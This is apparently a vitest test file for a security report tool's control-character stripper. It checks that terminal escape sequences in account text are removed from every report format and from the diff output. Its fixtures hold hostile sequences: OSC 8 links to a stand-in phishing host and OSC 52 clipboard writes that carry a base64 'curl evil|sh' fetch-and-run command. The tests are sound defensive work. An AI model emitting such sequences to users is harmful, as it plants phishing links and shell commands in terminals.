/**
 * The one control-character stripper (`stripControl`) and every text-like format that uses it: terminal
 * control sequences in account text — OSC 8 hyperlinks and OSC 52 clipboard writes above all — are
 * removed whole, payload included, so neither a terminal nor a reader ever meets them.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CONTROL_CHARACTER_SOURCE, CONTROL_SEQUENCE_SOURCE, oneLine, stripControl, stripTerminal } from '../../src/formats/escape.js';
import { findFormatter } from '../../src/formats/index.js';
import type { FormatOptions } from '../../src/formats/types.js';
import type { Finding, Report } from '../../src/report/schema.js';
import { runCli } from '../helpers/cli.js';
import { DEMO_EVIDENCE, reportFor } from '../helpers/report.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** What a terminal would show as a link "click here" to a phishing page (OSC 8, BEL-terminated). */
const OSC8_BEL = `${ESC}]8;;https://evil.example/phish${BEL}click here${ESC}]8;;${BEL}`;
/** The same, ST-terminated, with an id parameter. */
const OSC8_ST = `${ESC}]8;id=1;https://evil.example/st${ST}click here${ESC}]8;;${ST}`;
/** Writes "curl evil|sh" to the clipboard (OSC 52). */
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}`;
const OSC52_ST = `${ESC}]52;p;Y3VybCBldmlsfHNo${ST}`;
/** The C1 (8-bit) forms: OSC 0x9d … ST 0x9c, CSI 0x9b. */
const C1_OSC = `\u009d8;;https://evil.example/c1\u009c`;
const C1_CSI = '\u009b31m';

/** Payloads that must never survive into a report. */
const PAYLOADS = ['evil.example', 'Y3VybCBldmlsfHNo', '8;;', '52;', '544e', '[31m', '[2J'];

const HOSTILE = `${OSC8_BEL} ${OSC8_ST} ${OSC52}${OSC52_ST}${C1_OSC}${C1_CSI}${ESC}[2J${ESC}P+q544e${ST}${ESC}c${ESC}(Bvisible`;

/** C0/C1 controls other than tab, LF and CR (which the multi-line formats may keep). */
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;

describe('stripControl', () => {
  it.each([
    ['OSC 8 hyperlink, BEL-terminated', OSC8_BEL, 'click here'],
    ['OSC 8 hyperlink, ST-terminated, with parameters', OSC8_ST, 'click here'],
    ['OSC 52 clipboard write (BEL)', `a${OSC52}b`, 'ab'],
    ['OSC 52 clipboard write (ST)', `a${OSC52_ST}b`, 'ab'],
    ['OSC 0 window title', `${ESC}]0;pwned${BEL}x`, 'x'],
    ['C1 OSC … C1 ST', `a${C1_OSC}b`, 'ab'],
    ['C1 CSI', `${C1_CSI}red`, 'red'],
    ['CSI colour', `${ESC}[1;31mred${ESC}[0m`, 'red'],
    ['CSI with private parameters', `${ESC}[?25l${ESC}[>c${ESC}[<1;2;3Mx`, 'x'],
    ['CSI with an intermediate byte', `${ESC}[1 qx`, 'x'],
    ['DCS … ST', `a${ESC}P+q544e${ST}b`, 'ab'],
    ['APC, PM and SOS … ST', `a${ESC}_apc${ST}${ESC}^pm${ST}${ESC}Xsos${ST}b`, 'ab'],
    ['two-character escapes (reset, save cursor, charset)', `${ESC}c${ESC}7${ESC}(Bx`, 'x'],
    ['an unterminated OSC loses its introducer only', `${ESC}]8;;https://x`, '8;;https://x'],
    ['a lone ESC at the end', `x${ESC}`, 'x'],
    ['NUL, BEL, DEL and C1 controls', 'a\u0000b\u0007c\u007fd\u0085e', 'abcde'],
    ['tab, LF and CR become spaces', 'a\tb\nc\r\nd', 'a b c  d'],
  ])('%s', (_label, value, expected) => {
    expect(stripControl(value)).toBe(expected);
  });

  it('keeps tab, LF and CR with keepLineBreaks (stripTerminal), removing the rest alike', () => {
    expect(stripControl(`a\tb\n${OSC8_BEL}\r\n`, { keepLineBreaks: true })).toBe('a\tb\nclick here\r\n');
    expect(stripTerminal(HOSTILE)).toBe(stripControl(HOSTILE, { keepLineBreaks: true }));
    expect(stripTerminal(HOSTILE)).toBe('click here click here visible');
    expect(oneLine(`${HOSTILE}\u2028x`)).toBe('click here click here visible x');
  });

  it('takes linear time on many unterminated introducers', () => {
    const value = `${ESC}]8;;x`.repeat(200_000);
    const t0 = performance.now();
    expect(stripControl(value)).toBe('8;;x'.repeat(200_000));
    expect(performance.now() - t0).toBeLessThan(1000);
  });
});

describe.each(['text', 'markdown', 'csv', 'junit', 'html'])('%s with OSC 8 and OSC 52 sequences in account text', (id) => {
  const clean = reportFor(DEMO_EVIDENCE);
  const report: Report = structuredClone(clean);
  for (const instance of report.instances) {
    instance.instanceAlias = `alias ${HOSTILE}`;
    instance.accessUrl = `https://x.my.connect.aws/${HOSTILE}`;
  }
  report.findings = report.findings.map(
    (f): Finding => ({
      ...f,
      message: `${f.message} ${HOSTILE}`,
      resource: { ...f.resource, arn: `${f.resource.arn}${HOSTILE}` },
      ...(f.status === 'FAIL' && f.ruleId.startsWith('s3') ? { status: 'WAIVED' as const, waiver: { reason: HOSTILE, ticket: HOSTILE, expires: '2099-12-31', originalStatus: 'FAIL' as const } } : {}),
    }),
  );
  report.errors = [{ service: 'connect', operation: 'ListApprovedOrigins', resource: HOSTILE, code: HOSTILE, message: HOSTILE }];
  report.warnings = [HOSTILE];
  const formatter = findFormatter(id);
  const options: FormatOptions = { color: false, unicode: true };
  const full = formatter?.render(report, options) ?? '';
  // The HTML file embeds the JSON report (JSON-escaped, never shown as such): what a reader sees is the rest.
  const text = id === 'html' ? full.replace(/<script type="application\/json" id="report-data">[\s\S]*?<\/script>/, '') : full;

  it('holds no control character and no sequence payload, but the text a terminal would have shown', () => {
    expect(formatter).toBeDefined();
    expect(full).not.toMatch(CONTROL);
    for (const payload of PAYLOADS) expect(text, payload).not.toContain(payload);
    expect(text).toContain('click here click here visible');
  });
});

describe('the stripper outside the formats', () => {
  it('has sources that strip alike where the module cannot run (the HTML report script)', () => {
    const strip = (value: string) => value.replace(new RegExp(CONTROL_SEQUENCE_SOURCE, 'g'), '').replace(new RegExp(CONTROL_CHARACTER_SOURCE, 'g'), '');
    expect(strip(HOSTILE)).toBe(stripTerminal(HOSTILE));
  });

  it('diff prints report values through it: a hand-edited report cannot reach the terminal', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'escape-diff-'));
    try {
      const report = reportFor(DEMO_EVIDENCE);
      const first = report.findings.findIndex((f) => f.status === 'FAIL');
      const edited: Report = { ...report, findings: report.findings.map((f, i) => (i === first ? { ...f, id: 'new-one', message: HOSTILE, resource: { ...f.resource, arn: OSC52 } } : f)) };
      writeFileSync(join(dir, 'old.json'), JSON.stringify(report));
      writeFileSync(join(dir, 'new.json'), JSON.stringify(edited));
      const result = await runCli(['diff', join(dir, 'old.json'), join(dir, 'new.json')]);
      expect(result.stdout).toContain('click here click here visible');
      expect(result.stdout).not.toMatch(CONTROL);
      for (const payload of PAYLOADS) expect(result.stdout, payload).not.toContain(payload);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
